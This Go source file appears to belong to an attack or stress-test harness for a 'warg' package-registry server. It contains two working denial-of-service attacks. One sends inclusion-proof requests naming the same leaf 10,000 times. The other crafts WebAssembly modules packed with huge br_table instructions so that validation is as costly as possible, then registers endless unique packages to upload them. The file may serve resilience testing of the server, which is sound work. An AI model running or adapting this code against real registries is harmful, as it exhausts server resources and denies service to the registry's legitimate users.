package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"net/http"

	"github.com/warg-trillian/warg-trillian/warg/api"
	"github.com/warg-trillian/warg-trillian/warg/protocol"
)

const (
	provenTimes = 10_000 // that one request names the same leaf

	// What makes a module costly: validating a branch table takes as many steps
	// as it has targets, times the results of the block that it leaves. All are
	// as many as the validator allows.
	costlyResults, costlyTargets, costlyTables = 1000, 65_520, 4
)

// prepareProofs: requests that name the first leaf again and again.
func prepareProofs(ctx context.Context, a *attacks) (func(context.Context, *attacker), error) {
	request := api.InclusionRequest{LogLength: uint64(len(a.leaves)), Leafs: make([]uint64, provenTimes)}
	return repeat("proof of 10,000 leaves", api.ProveInclusionPath, request.AppendJSON(nil)), nil
}

// prepareModules: small modules that are very costly to validate, no two alike,
// each for a record of its own.
func prepareModules(context.Context, *attacks) (func(context.Context, *attacker), error) {
	costly := costlyModule()
	return func(ctx context.Context, a *attacker) {
		key, err := protocol.GeneratePrivateKey()
		for n := 0; err == nil && ctx.Err() == nil; n++ {
			name := a.ownPackage(n)
			content := append(bytes.Clone(costly), section(0, append([]byte{1, 'n'}, name.String()...))...)
			r := newRecord(key, name, "", initEntry(key), releaseOf("1.0.0", content))
			if a.send(ctx, "record", r.postPath, r.body) == http.StatusAccepted {
				a.send(ctx, "costly module", api.UploadContentPath(r.logID, r.id, protocol.HashOf(content)), content)
			}
		}
	}, nil
}

// costlyModule has one function with many results, which is nothing but branch
// tables whose every target is the function's end.
func costlyModule() []byte {
	results := bytes.Repeat([]byte{0x7f}, costlyResults) // i32
	function := append([]byte{0x60, 0}, leb(costlyResults, results)...)
	body := []byte{0, 0x00} // no locals; unreachable, so that nothing need be on the stack
	for range costlyTables {
		body = append(body, 0x41, 0, 0x0e) // i32.const 0, br_table
		body = append(body, leb(costlyTargets, make([]byte, costlyTargets+1))...)
	}
	body = append(body, 0x0b)
	module := bytes.Clone(wasm)
	module = append(module, section(1, append([]byte{1}, function...))...)
	module = append(module, section(3, []byte{1, 0})...)
	return append(module, section(10, append([]byte{1}, leb(len(body), body)...))...)
}

func section(id byte, content []byte) []byte {
	return append([]byte{id}, leb(len(content), content)...)
}

// leb is a number in unsigned LEB128, and what comes behind it.
func leb(n int, rest []byte) []byte { return append(binary.AppendUvarint(nil, uint64(n)), rest...) }
